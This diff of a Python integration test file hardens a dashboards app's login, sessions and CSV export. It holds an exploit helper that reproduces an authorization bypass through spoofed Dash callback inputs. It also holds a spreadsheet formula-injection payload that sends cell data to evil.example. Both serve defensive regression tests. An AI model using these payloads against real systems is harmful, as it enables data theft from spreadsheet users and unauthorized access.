@@ -1,23 +1,40 @@
-"""The dashboards through the server: login required everywhere, roles decide masking, the
-callbacks answer with the warehouse's numbers, and a filter change moves them."""
+"""The dashboards through the server: login required everywhere, sessions that end when
+the staff account says so, anonymous callers limited to the login page, roles decide
+masking, CSV without formulas, the callbacks answer with the warehouse's numbers, and a
+filter change moves them."""
 
 from __future__ import annotations
 
+import csv as csv_module
+import io
 import re
 from collections.abc import Iterator
 from typing import Any
 from urllib.parse import parse_qsl, urlparse
 
 import pytest
+from flask import Flask
 from flask.testing import FlaskClient
+from itsdangerous import URLSafeTimedSerializer
+from sqlalchemy import select, update
 
+from common.audit import AuditEvent
+from common.clock import today, utcnow
+from common.db import read_session
 from common.unit_of_work import UnitOfWork
+from crm.adapters.orm import Member
 from dashboards import i18n
-from dashboards.auth import SESSION_COOKIE, Sessions, Viewer
+from dashboards.auth import COOKIE_PATH, SESSION_COOKIE
 from memberhub.wiring import Runtime
-from storefront_api.auth import create_staff_user
+from storefront_api.auth import (
+    LOGIN_PER_ACCOUNT,
+    create_staff_user,
+    reset_staff_password,
+    set_staff_active,
+)
+from storefront_api.auth.orm import StaffSession, StaffUser
 from tests.integration import dashboard_scenario
-from tests.integration.dash_client import DashClient
+from tests.integration.dash_client import CALLBACK_URL, DashClient
 from tests.integration.dashboard_scenario import Scenario
 from warehouse import WarehouseReader, queries, sync_warehouse
 from warehouse.queries import Filters
@@ -141,12 +158,15 @@ def test_anonymous_visitors_are_sent_to_the_login_page(client: FlaskClient) -> N
 
 
 def test_every_callback_refuses_anonymous_callers_but_the_login_page(dash: DashClient) -> None:
+    # The login form, and the header (labels only for an anonymous caller); the router
+    # is asked for the overview here, so it is refused too.
+    login_page = {"login-message", "header-product"}
     refused = []
     for dependency in dash.dependencies:
         first = dependency["output"].strip(".").split("...")[0].split("@")[0].rsplit(".", 1)[0]
         values = {f"{i['id']}.{i['property']}": None for i in dependency["inputs"]}
         values["_pages_location.pathname"] = "/dashboards/"
-        if first == "login-message":
+        if first in login_page:
             continue
         answer = dash.call(first, values)
         if answer.status_code != 401:
@@ -156,8 +176,13 @@ def test_every_callback_refuses_anonymous_callers_but_the_login_page(dash: DashC
     assert render(dash, "/dashboards/points").status_code == 401
 
 
-def test_login_checks_the_password_and_sets_a_signed_session_cookie(
-    dash: DashClient, staff: Any, client: FlaskClient
+def session_cookie(client: FlaskClient) -> str | None:
+    cookie = client.get_cookie(SESSION_COOKIE, path=COOKIE_PATH)
+    return None if cookie is None else cookie.value
+
+
+def test_login_checks_the_password_and_sets_a_session_cookie(
+    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime
 ) -> None:
     username, password = staff("marketer")
     wrong = log_in(dash, username, "not-the-password")
@@ -174,13 +199,97 @@ def test_login_checks_the_password_and_sets_a_signed_session_cookie(
     assert right.json["response"]["_pages_location"]["href"] == "/dashboards/channels?lang=en"
     cookie = right.headers["Set-Cookie"]
     assert cookie.startswith(f"{SESSION_COOKIE}=") and "HttpOnly" in cookie
-    assert "Path=/dashboards" in cookie
+    assert "Path=/dashboards" in cookie and "SameSite=Lax" in cookie
+    assert "Secure" not in cookie  # MEMBERHUB_HTTPS is off in the tests
     assert render(dash, "/dashboards/").status_code == 200
     assert client.get("/dashboards/campaigns").status_code == 200
 
+    # The cookie names a server-side session of kind "dashboards", not a user and role.
+    with read_session(db.session_factory) as session:
+        kinds = session.scalars(select(StaffSession.kind)).all()
+    assert kinds == ["dashboards"]
+    assert username not in str(session_cookie(client))
+
+
+def test_logout_ends_the_session_so_a_copied_cookie_is_worthless(
+    dash: DashClient, staff: Any, client: FlaskClient
+) -> None:
+    log_in(dash, *staff("finance"))
+    copied = session_cookie(client)
+    assert copied is not None and render(dash, "/dashboards/").status_code == 200
+
     logout = client.get("/dashboards/logout")
     assert logout.status_code == 302 and logout.headers["Location"] == "/dashboards/login"
+    assert "Max-Age=0" in logout.headers["Set-Cookie"]
+    assert session_cookie(client) is None
     assert render(dash, "/dashboards/").status_code == 401
+
+    # Replaying the cookie as it was before the logout gets nothing.
+    client.set_cookie(SESSION_COOKIE, copied, path=COOKIE_PATH)
+    page = client.get("/dashboards/members")
+    assert page.status_code == 302 and page.headers["Location"].startswith("/dashboards/login")
+    assert render(dash, "/dashboards/members").status_code == 401
+    assert dash.call("members-kpis", {"members-query.data": {}}).status_code == 401
+
+
+@pytest.mark.parametrize("ending", ["disable", "reset"])
+def test_disabling_or_resetting_the_account_ends_a_live_session(
+    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime, ending: str
+) -> None:
+    username, password = staff("admin")
+    log_in(dash, username, password)
+    assert render(dash, "/dashboards/").status_code == 200
+    with UnitOfWork(db.session_factory) as uow:
+        if ending == "disable":
+            set_staff_active(uow, username, False)
+        else:
+            reset_staff_password(uow, username)
+    assert render(dash, "/dashboards/").status_code == 401
+    assert client.get("/dashboards/").status_code == 302
+    # And a disabled account cannot log in again.
+    if ending == "disable":
+        again = log_in(dash, username, password)
+        assert again.json["response"]["login-message"]["children"] == i18n.t("login.failed", "zh")
+        assert SESSION_COOKIE not in again.headers.get("Set-Cookie", "")
+
+
+def test_the_role_is_the_account_s_current_one(dash: DashClient, staff: Any, db: Runtime) -> None:
+    username, password = staff("admin")
+    log_in(dash, username, password)
+    location = {"_pages_location.pathname": "/dashboards/", "_pages_location.search": ""}
+    header = dash.response("header-user", location)
+    assert header["header-user"]["children"] == f"{username} · {i18n.t('role.admin', 'zh')}"
+    with db.engine.begin() as connection:
+        connection.execute(
+            update(StaffUser).where(StaffUser.username == username).values(role="marketer")
+        )
+    header = dash.response("header-user", location)
+    assert header["header-user"]["children"] == f"{username} · {i18n.t('role.marketer', 'zh')}"
+
+
+def test_too_many_wrong_passwords_say_when_to_retry(
+    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime
+) -> None:
+    username, password = staff("marketer")
+    for _ in range(LOGIN_PER_ACCOUNT.attempts):
+        answer = log_in(dash, username, "wrong")
+        assert answer.json["response"]["login-message"]["children"] == i18n.t("login.failed", "zh")
+    minutes = LOGIN_PER_ACCOUNT.window.seconds // 60
+    throttled = log_in(dash, username, password)
+    message = throttled.json["response"]["login-message"]["children"]
+    assert message == f"尝试次数过多，请 {minutes} 分钟后再试"
+    assert session_cookie(client) is None
+    english = log_in(dash, username, password, "?lang=en")
+    message = english.json["response"]["login-message"]["children"]
+    assert message == f"Too many attempts, retry in {minutes} minutes"
+    # Every attempt is counted against the address it came from, as the API's are.
+    with read_session(db.session_factory) as session:
+        addresses = set(
+            session.scalars(
+                select(AuditEvent.client_address).where(AuditEvent.action == "login.staff")
+            )
+        )
+    assert addresses == {"127.0.0.1"}
 
 
 def test_login_never_redirects_off_the_dashboards(dash: DashClient, staff: Any) -> None:
@@ -190,14 +299,172 @@ def test_login_never_redirects_off_the_dashboards(dash: DashClient, staff: Any) 
         assert answer.json["response"]["_pages_location"]["href"] == "/dashboards/"
 
 
-def test_forged_or_foreign_session_cookies_are_refused(
+def test_forged_foreign_or_made_up_session_cookies_are_refused(
+    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime
+) -> None:
+    log_in(dash, *staff("admin"))
+    real = session_cookie(client)
+    assert real is not None
+    secret = db.settings.secret_key
+    token = URLSafeTimedSerializer(secret, salt="memberhub.dashboards").loads(real)
+    forged = {
+        # A real session's token, signed with another key.
+        "foreign": URLSafeTimedSerializer("another", salt="memberhub.dashboards").dumps(token),
+        # Signed with the right key, but no session has this token.
+        "made-up": URLSafeTimedSerializer(secret, salt="memberhub.dashboards").dumps("x" * 43),
+        # The old cookie format: a signed username and role.
+        "old": URLSafeTimedSerializer(secret, salt="memberhub.dashboards").dumps(
+            {"u": "mallory", "r": "admin"}
+        ),
+        "unsigned": "not-even-signed",
+    }
+    for name, value in forged.items():
+        client.set_cookie(SESSION_COOKIE, value, path=COOKIE_PATH)
+        assert render(dash, "/dashboards/").status_code == 401, name
+        assert client.get("/dashboards/").status_code == 302, name
+    client.set_cookie(SESSION_COOKIE, real, path=COOKIE_PATH)
+    assert render(dash, "/dashboards/").status_code == 200
+
+
+def test_an_expired_session_is_refused(
+    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime
+) -> None:
+    log_in(dash, *staff("finance"))
+    with db.engine.begin() as connection:
+        connection.execute(update(StaffSession).values(expires_at=utcnow()))
+    assert render(dash, "/dashboards/").status_code == 401
+    assert client.get("/dashboards/points").status_code == 302
+
+
+# -- what anonymous callers reach -------------------------------------------------------
+
+
+def exploit(
+    dash: DashClient, output_id: str, inputs: dict[str, Any], state: dict[str, Any] | None = None
+) -> dict[str, Any]:
+    """A callback request for `output_id` whose first input claims the login page is open.
+
+    Dash checks the outputs and the number of values, not the inputs' ids: it hands the
+    values to the callback by position, so the claim arrives as the first argument.
+    """
+    body = dash.body(output_id, inputs, state)
+    body["inputs"][0] = LOGIN_PAGE_CLAIM
+    return body
+
+
+LOGIN_PAGE_CLAIM = {"id": "_pages_location", "property": "pathname", "value": "/dashboards/login"}
+STORE_ALL = {"from": "2020-01-01", "to": today().isoformat()}
+
+
+def test_the_review_s_csv_exploit_gets_401_and_no_file(
+    dash: DashClient, client: FlaskClient, staff: Any, db: Runtime, world: Scenario
+) -> None:
+    """No cookie, a download output, inputs claiming the login page: it used to answer 200
+    with the top members as CSV."""
+    body = {
+        "output": "members-table-top-download.data",
+        "outputs": {"id": "members-table-top-download", "property": "data"},
+        "inputs": [LOGIN_PAGE_CLAIM],
+        "state": [{"id": "members-query", "property": "data", "value": STORE_ALL}],
+        "changedPropIds": ["_pages_location.pathname"],
+    }
+    answer = client.post(CALLBACK_URL, json=body)
+    assert answer.status_code == 401
+    assert answer.json == {"error": "login required", "login": "/dashboards/login"}
+
+    # The same through the client that builds bodies as the browser does, for every table.
+    downloads = [
+        d["output"].split("@")[0].rsplit(".", 1)[0]
+        for d in dash.dependencies
+        if d["output"].endswith("-download.data")
+    ]
+    assert len(downloads) >= 10
+    for output_id in downloads:
+        page = output_id.split("-")[0]
+        request = exploit(dash, output_id, {}, {f"{page}-query.data": STORE_ALL})
+        assert client.post(CALLBACK_URL, json=request).status_code == 401, output_id
+
+    # With a session that ended, or a forged cookie, just the same.
+    log_in(dash, *staff("finance"))
+    proper = dash.body(
+        "members-table-top-download",
+        {"members-table-top-download-button.n_clicks": 1},
+        {"members-query.data": STORE_ALL},
+    )
+    answer = client.post(CALLBACK_URL, json=proper)
+    assert answer.status_code == 200
+    assert answer.json["response"]["members-table-top-download"]["data"]["type"] == "text/csv"
+    copied = session_cookie(client)
+    client.get("/dashboards/logout")
+    client.set_cookie(SESSION_COOKIE, str(copied), path=COOKIE_PATH)
+    for request in (proper, body):
+        assert client.post(CALLBACK_URL, json=request).status_code == 401
+    client.set_cookie(SESSION_COOKIE, "forged", path=COOKIE_PATH)
+    for request in (proper, body):
+        assert client.post(CALLBACK_URL, json=request).status_code == 401
+
+
+@pytest.mark.parametrize(
+    ("output_id", "inputs"),
+    [
+        ("members-table-top", {"members-query.data": STORE_ALL}),
+        ("members-kpis", {"members-query.data": STORE_ALL}),
+        ("members-chart-cohorts", {"members-query.data": STORE_ALL}),
+        ("overview-chart-gmv-trend", {"members-query.data": STORE_ALL}),
+        # The filter bar's callback writes the URL from a page's store.
+        (
+            "_pages_location",
+            {"members-filter-channel.value": "web", "members-filter-dates.start_date": None},
+        ),
+    ],
+)
+def test_anonymous_callers_get_no_table_chart_or_store(
+    dash: DashClient, client: FlaskClient, output_id: str, inputs: dict[str, Any]
+) -> None:
+    answer = client.post(CALLBACK_URL, json=exploit(dash, output_id, inputs))
+    assert answer.status_code == 401, answer.get_data(as_text=True)[:300]
+
+
+def test_the_router_renders_only_the_login_page_for_anonymous_callers(
     dash: DashClient, client: FlaskClient
 ) -> None:
-    foreign = Sessions("another-secret").issue(Viewer("mallory", "admin"))
-    client.set_cookie(SESSION_COOKIE, foreign, path="/dashboards")
-    assert render(dash, "/dashboards/").status_code == 401
-    client.set_cookie(SESSION_COOKIE, "not-even-signed", path="/dashboards")
-    assert client.get("/dashboards/").status_code == 302
+    for path in ("/dashboards/login", "/dashboards/login/"):
+        answer = render(dash, path, "?lang=en&next=%2Fdashboards%2Fmembers")
+        assert answer.status_code == 200, path
+        assert "login-username" in ids_in(answer.json["response"]["_pages_content"])
+    for path in ("/dashboards/members", "/dashboards//members", "/dashboards/", None):
+        assert render(dash, path).status_code == 401, path
+    # Dash hands the router its inputs by position: a login pathname placed second does
+    # not make the first one harmless.
+    swapped = dash.body(
+        "_pages_content",
+        {"_pages_location.pathname": "/dashboards/members", "_pages_location.search": ""},
+    )
+    swapped["inputs"] = [
+        {"id": "_pages_location", "property": "search", "value": "/dashboards/members"},
+        {"id": "_pages_location", "property": "pathname", "value": "/dashboards/login"},
+    ]
+    assert client.post(CALLBACK_URL, json=swapped).status_code == 401
+    # Nor does labelling a download's answer as the login form's.
+    relabelled = dash.body(
+        "members-table-top-download",
+        {"members-table-top-download-button.n_clicks": 1},
+        {"members-query.data": STORE_ALL},
+    )
+    relabelled["outputs"] = [
+        {"id": "login-message", "property": "children"},
+        {"id": "_pages_location", "property": "href"},
+    ]
+    assert client.post(CALLBACK_URL, json=relabelled).status_code == 401
+
+
+def test_the_header_runs_for_anonymous_callers_but_names_nobody(dash: DashClient) -> None:
+    header = dash.response(
+        "header-user",
+        {"_pages_location.pathname": "/dashboards/login", "_pages_location.search": ""},
+    )
+    assert header["header-user"]["children"] == ""
+    assert header["app-header"]["className"] == "app-header anonymous"
 
 
 # -- pages and callbacks -------------------------------------------------------------------
@@ -276,29 +543,89 @@ def _find_store(layout: Any, store_id: str) -> Any:
     raise AssertionError(f"no store {store_id}")
 
 
+def top_members_csv(dash: DashClient) -> str:
+    answer = dash.response(
+        "members-table-top-download",
+        {"members-table-top-download-button.n_clicks": 1},
+        {"members-query.data": STORE_ALL},
+    )["members-table-top-download"]["data"]
+    assert answer["filename"].endswith(".csv") and answer["content"].startswith("\ufeff")
+    return str(answer["content"])
+
+
 def test_marketers_see_masked_members_and_finance_sees_them_whole(
     dash: DashClient, staff: Any, world: Scenario, client: FlaskClient
 ) -> None:
-    store = {"from": "2020-01-01", "to": world.today.isoformat()}
     phones = re.compile(r"^1\d{10}$")
     masked = re.compile(r"^1\d\d\*{4}\d{4}$")
 
     log_in(dash, *staff("marketer"))
-    table = dash.response("members-table-top", {"members-query.data": store})
+    table = dash.response("members-table-top", {"members-query.data": STORE_ALL})
     cells = texts_in(table)
     assert any(masked.match(c) for c in cells) and not any(phones.match(c) for c in cells)
-    csv = dash.response(
-        "members-table-top-download",
-        {"members-table-top-download-button.n_clicks": 1},
-        {"members-query.data": store},
-    )["members-table-top-download"]["data"]
-    assert csv["filename"].endswith(".csv") and csv["content"].startswith("\ufeff")
-    assert "****" in csv["content"] and not re.search(r"\b1\d{10}\b", csv["content"])
+    csv = top_members_csv(dash)
+    assert "****" in csv and not re.search(r"\b1\d{10}\b", csv)
 
     client.get("/dashboards/logout")
     log_in(dash, *staff("finance"))
-    cells = texts_in(dash.response("members-table-top", {"members-query.data": store}))
+    cells = texts_in(dash.response("members-table-top", {"members-query.data": STORE_ALL}))
     assert any(phones.match(c) for c in cells) and not any(masked.match(c) for c in cells)
+    csv = top_members_csv(dash)
+    assert re.search(r"\b1\d{10}\b", csv) and "****" not in csv
+
+
+def test_the_download_itself_refuses_a_request_without_a_live_session(
+    app: Flask, dash: DashClient, staff: Any, world: Scenario, client: FlaskClient
+) -> None:
+    """Behind the gate, the download callback checks the session again: with the gate
+    taken away, a request without a live session still gets no file."""
+    gates = app.before_request_funcs[None]
+    app.before_request_funcs[None] = [hook for hook in gates if hook.__name__ != "gate"]
+    assert len(app.before_request_funcs[None]) == len(gates) - 1
+    request = dash.body(
+        "members-table-top-download",
+        {"members-table-top-download-button.n_clicks": 1},
+        {"members-query.data": STORE_ALL},
+    )
+    answer = client.post(CALLBACK_URL, json=request)
+    assert answer.status_code == 204 and not answer.get_data()
+    table = client.post(
+        CALLBACK_URL, json=dash.body("members-table-top", {"members-query.data": STORE_ALL})
+    )
+    assert table.status_code == 204
+
+    log_in(dash, *staff("marketer"))
+    copied = session_cookie(client)
+    assert client.post(CALLBACK_URL, json=request).status_code == 200
+    client.get("/dashboards/logout")
+    client.set_cookie(SESSION_COOKIE, str(copied), path=COOKIE_PATH)
+    assert client.post(CALLBACK_URL, json=request).status_code == 204
+
+
+def test_a_member_s_formula_name_leaves_as_text(
+    dash: DashClient, staff: Any, world: Scenario, db: Runtime, client: FlaskClient
+) -> None:
+    """A member registered as =HYPERLINK(...): the CSV shows it, a spreadsheet does not
+    run it."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    with db.engine.begin() as connection:
+        connection.execute(
+            update(Member)
+            .where(Member.member_no.in_(world.members))
+            .values(name=formula, updated_at=utcnow())
+        )
+    sync_warehouse(db.engine, db.settings.warehouse_path)
+
+    log_in(dash, *staff("finance"))
+    rows = list(csv_module.reader(io.StringIO(top_members_csv(dash).lstrip("\ufeff"))))
+    names = [row[1] for row in rows[1:]]
+    assert names and all(name == "'" + formula for name in names), names[:3]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+    client.get("/dashboards/logout")
+    log_in(dash, *staff("marketer"))
+    rows = list(csv_module.reader(io.StringIO(top_members_csv(dash).lstrip("\ufeff"))))
+    assert {row[1] for row in rows[1:]} == {"'=*"}
 
 
 def test_the_language_switch_keeps_the_filters_and_translates_the_header(
